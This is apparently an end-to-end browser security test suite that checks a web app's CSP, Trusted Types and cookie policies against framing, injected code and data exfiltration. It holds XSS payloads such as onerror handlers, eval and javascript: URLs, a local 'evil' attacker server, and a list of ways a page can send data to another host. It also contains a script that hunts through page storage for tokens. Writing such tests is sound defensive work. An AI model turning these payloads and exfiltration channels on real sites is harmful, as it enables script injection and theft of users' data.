// The policies of the page forbid frames, foreign code and other hosts, and tell another site nothing.
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Browser, BrowserContext, Page } from 'playwright-core'
import { beforeAll, expect, test } from 'vitest'
import { endLater, openApp, openBrowser } from '../kit/cleanup.ts'
import type { AppProcess } from '../kit/app-process.ts'
import { openAllFields, serverCookies } from '../kit/page.ts'

const DATA = 'Harbour Rope Works'
/** Each way in which a page can send something to another host, or run code from there. */
const WAYS_OUT = [
  'fetch',
  'import',
  'import of data:',
  'WebSocket',
  'EventSource',
  'sendBeacon',
  'XMLHttpRequest',
  'form',
  'image',
  'script',
  'style',
  'frame',
  'worker of blob:',
  'prefetch',
] as const

const INJECTIONS = [
  `document.body.innerHTML = '<img src=x onerror="globalThis.ranForeignCode = true">'`,
  `document.write('<p>')`,
  `(0, eval)('1')`,
  `new Function('return 1')()`,
  `setTimeout('globalThis.ranForeignCode = true')`,
  `(document.createElement('script').text = 'globalThis.ranForeignCode = true')`,
  `trustedTypes.createPolicy('any', {})`,
]

let running: AppProcess
let browser: Browser
let evil: { server: Server; url: string; asked: string[]; page: string }
/** Signed in with OAuth, so that tokens exist. */
let context: BrowserContext
let page: Page

beforeAll(async () => {
  running = await openApp()
  browser = await openBrowser()
  evil = await openEvil()
  endLater(() => new Promise((resolve) => evil.server.close(resolve).closeAllConnections()))
  context = await browser.newContext()
  page = await context.newPage()
  await page.goto(`${running.url}/organizations/1001?tab=quota#usage`)
  await page.getByRole('button', { name: 'Sign in · 1–2 requests' }).click()
  await page.getByRole('button', { name: /Ada/ }).click()
  await page.getByRole('button', { name: 'Permit' }).click()
  await page.getByText(DATA).first().waitFor()
})

/** Another site: answers `/` with the page that a test gives it, and counts everything else. */
async function openEvil() {
  const made = { server: createServer(), url: '', asked: [] as string[], page: '' }
  made.server.on('request', ({ url = '' }, response) => {
    if (url !== '/') made.asked.push(url)
    response.setHeader('Access-Control-Allow-Origin', '*')
    response.writeHead(200, { 'Content-Type': url === '/' ? 'text/html' : 'text/javascript' })
    response.end(url === '/' ? made.page : 'globalThis.ranForeignCode = true')
  })
  await new Promise<void>((resolve) => made.server.listen(0, '127.0.0.1', resolve))
  made.url = `http://127.0.0.1:${(made.server.address() as AddressInfo).port}`
  return made
}

async function openEvilPage(from: BrowserContext, html: string): Promise<Page> {
  evil.page = `<!doctype html><title>evil</title><body>${html}`
  const attacker = await from.newPage()
  await attacker.goto(`${evil.url}/`)
  return attacker
}

test('no page and no callback of ours works in a frame of another site (CSP 3 6.4.2, attack 40)', async () => {
  const targets = ['/', '/organizations/1001', '/callback?code=a&state=b', '/bff/session', '/assets/none.js']
  const frames = targets.flatMap((path) =>
    ['iframe src', 'embed src', 'object data'].map(
      (tag) => `<${tag}="${running.url}${path}"></${tag.split(' ')[0]}>`,
    ),
  )
  const attacker = await openEvilPage(context, frames.join(''))
  await attacker.waitForLoadState('networkidle')
  const shown = await Promise.all(
    attacker
      .frames()
      .slice(1)
      .map((frame) =>
        frame
          .locator('body')
          .textContent({ timeout: 2000 })
          .catch(() => ''),
      ),
  )
  expect(shown.length).toBeGreaterThanOrEqual(targets.length)
  expect(shown.join()).not.toMatch(/Plimsoll|Harbour|Sign in|signed_in|Finishing/)
  await attacker.close()
})

test('what another site sees is the same, signed in or not (CORP, COOP)', async () => {
  const probe = async (from: BrowserContext) => {
    const attacker = await openEvilPage(from, '')
    const seen = await attacker.evaluate(async (app) => {
      const outcomeOf = (tag: 'img' | 'script' | 'link', path: string) =>
        new Promise<string>((resolve) => {
          const element = document.createElement(tag)
          element.addEventListener('load', () => resolve('load'))
          element.addEventListener('error', () => resolve('error'))
          if (element instanceof HTMLLinkElement) element.rel = 'stylesheet'
          element.setAttribute(tag === 'link' ? 'href' : 'src', app + path)
          document.body.append(element)
        })
      const found: string[] = []
      for (const path of [
        '/',
        '/bff/session',
        '/bff/quota',
        '/api/organizations/1001',
        '/organizations/1001',
      ])
        for (const tag of ['img', 'script', 'link'] as const)
          found.push(`${path} ${tag} ${await outcomeOf(tag, path)}`)
      for (const mode of ['cors', 'no-cors'] as const)
        found.push(
          await fetch(`${app}/bff/session`, { mode, credentials: 'include' }).then((r) => r.type, String),
        )
      const opened = window.open(`${app}/organizations/1001`)
      // The browser cuts it off from this one when its page arrives.
      const isOpen = () => opened?.closed === false
      while (isOpen()) await new Promise((resolve) => setTimeout(resolve, 50))
      return [...found, `window ${opened?.closed} ${opened?.length}`]
    }, running.url)
    await attacker.close()
    return seen
  }
  const stranger = await browser.newContext()
  const [signedIn, signedOut] = [await probe(context), await probe(stranger)]
  expect(signedIn).toEqual(signedOut)
  expect(signedIn.at(-1)).toBe('window true 0')
  expect(signedIn.filter((line) => line.endsWith(' load'))).toEqual([])
  await stranger.close()
})

test('an API address that is opened as a page shows no data (Fetch Metadata 2.1, attack 43)', async () => {
  const tab = await context.newPage()
  for (const path of [
    '/bff/session',
    '/bff/quota',
    '/bff/sessions',
    '/api/organizations/1001',
    '/api/rate_limit',
  ]) {
    const answered = tab.waitForResponse(running.url + path)
    // Firefox shows a page of its own for an answer without a body.
    await tab.goto(running.url + path).catch(() => null)
    expect([path, (await answered).status()]).toEqual([path, 403])
    expect(await tab.content()).not.toMatch(/Harbour|signed_in|remaining/)
  }
  await tab.close()
})

test('markup of the service is text, no injected code runs (Trusted Types 4.2, attack 41)', async () => {
  const complaints: string[] = []
  const tab = await context.newPage()
  tab.on('console', (message) => complaints.push(message.text()))
  const markup = `<img src=x onerror="globalThis.ranForeignCode = true"><script>globalThis.ranForeignCode = true</script>`
  await tab.route(`${running.url}/api/organizations/*`, (route) =>
    route.fulfill({
      headers: { Age: '1', 'X-Plimsoll-Spent': '0' },
      json: {
        name: markup,
        website: 'javascript:globalThis.ranForeignCode=true',
        [markup]: [{ id: markup }],
      },
    }),
  )
  await tab.addInitScript({
    content: `globalThis.attempts = [${INJECTIONS.map((code) => `() => ${code}`).join()}]`,
  })
  await tab.goto(`${running.url}/organizations/1001`)
  await openAllFields(tab)
  await tab.getByText('<img src=x').first().waitFor()
  expect(await tab.locator('a[href^="javascript:"]').count()).toBe(0)
  expect(complaints.filter((text) => !text.includes('Failed to load'))).toEqual([])
  const refused = await tab.evaluate(async () => {
    // The debugger's own calls may use eval; a timer may not.
    await new Promise((resolve) => setTimeout(resolve))
    const { attempts } = globalThis as unknown as { attempts: (() => unknown)[] }
    return attempts.map((attempt) => {
      try {
        attempt()
        return `done: ${attempt.toString()}`
      } catch {
        return 'refused'
      }
    })
  })
  expect(refused).toEqual(INJECTIONS.map(() => 'refused'))
  // An attribute would run if the policy allowed inline code.
  await tab.evaluate(() => {
    const button = document.createElement('button')
    document.body.append(button)
    try {
      button.setAttribute('onclick', 'globalThis.ranForeignCode = true')
    } catch {
      // The policy has refused the attribute.
    }
    button.click()
  })
  expect(await tab.evaluate(() => 'ranForeignCode' in globalThis)).toBe(false)
  await tab.close()
})

test('a rogue module in the page reaches no other host (CSP 3 6.1, attack 77)', async () => {
  const tab = await context.newPage()
  await tab.goto(`${running.url}/organizations/1001`)
  await tab.getByText(DATA).first().waitFor()
  evil.asked.length = 0
  const ways = await tab.evaluate(async (to) => {
    const add = (tag: string, attributes: Record<string, string>) => {
      const element = document.createElement(tag)
      for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value)
      document.body.append(element)
    }
    const run: Record<string, () => unknown> = {
      fetch: () => fetch(`${to}/fetch`, { mode: 'no-cors' }),
      import: () => import(/* @vite-ignore */ `${to}/import.js`),
      'import of data:': () =>
        import(/* @vite-ignore */ ['data:text/javascript', 'globalThis.ranForeignCode=true'].join()),
      WebSocket: () => new WebSocket(`${to.replace('http', 'ws')}/socket`),
      EventSource: () => new EventSource(`${to}/events`),
      sendBeacon: () => navigator.sendBeacon(`${to}/beacon`, 'x'),
      XMLHttpRequest: () => {
        const request = new XMLHttpRequest()
        request.open('POST', `${to}/xhr`)
        request.send('x')
      },
      form: () => {
        add('form', { action: `${to}/form`, method: 'post', target: '_blank' })
        document.forms[document.forms.length - 1]?.submit()
      },
      image: () => add('img', { src: `${to}/image` }),
      script: () => add('script', { src: `${to}/script.js` }),
      style: () => add('link', { rel: 'stylesheet', href: `${to}/style.css` }),
      frame: () => add('iframe', { src: `${to}/frame` }),
      'worker of blob:': () => new Worker(URL.createObjectURL(new Blob([`fetch('${to}/worker')`]))),
      prefetch: () => add('link', { rel: 'prefetch', href: `${to}/prefetch` }),
    }
    for (const attempt of Object.values(run))
      await Promise.resolve()
        .then(attempt)
        .catch(() => {})
    await new Promise((resolve) => setTimeout(resolve, 1500))
    return Object.keys(run)
  }, evil.url)
  expect(ways).toEqual([...WAYS_OUT])
  expect(evil.asked).toEqual([])
  expect(await tab.evaluate(() => 'ranForeignCode' in globalThis)).toBe(false)
  await tab.close()
})

test('code of the page can read no token, key or cookie (ASVS 14.3.3)', async () => {
  const readable = await page.evaluate(async () => {
    const databases = await indexedDB.databases()
    const workers = await navigator.serviceWorker.getRegistrations()
    return {
      stores: [...databases, ...workers, ...(await caches.keys())].length,
      cookie: document.cookie,
      text: JSON.stringify([
        Object.entries(localStorage),
        Object.entries(sessionStorage),
        performance.getEntries().map(({ name }) => name),
        history.state,
        window.name,
        document.documentElement.outerHTML,
        Object.getOwnPropertyNames(window).map((name) => String(Reflect.get(window, name))),
      ]),
    }
  })
  // What a person chose, and the time zone: the page writes it, and the server draws by it.
  expect(readable.cookie).toMatch(/^plimsoll-http-\d+-choices=v1\.-\.-\.[\w%]+\.(-|own)$/)
  expect(readable.stores).toBe(0)
  const { access_tokens, refresh_tokens } = await running.sandboxState()
  const cookies = await serverCookies(context, running.url)
  expect(cookies.length).toBeGreaterThan(0)
  // The app is at http://localhost, where WebKit stores no Secure cookie.
  expect(
    cookies.every(({ httpOnly, secure, sameSite }) => httpOnly && !secure && sameSite === 'Strict'),
  ).toBe(true)
  const canaries = [
    ...Object.keys(access_tokens),
    ...Object.keys(refresh_tokens),
    ...cookies.map(({ value }) => value),
  ]
  expect(canaries.length).toBeGreaterThanOrEqual(3)
  expect(canaries.filter((canary) => readable.text.includes(canary))).toEqual([])
})
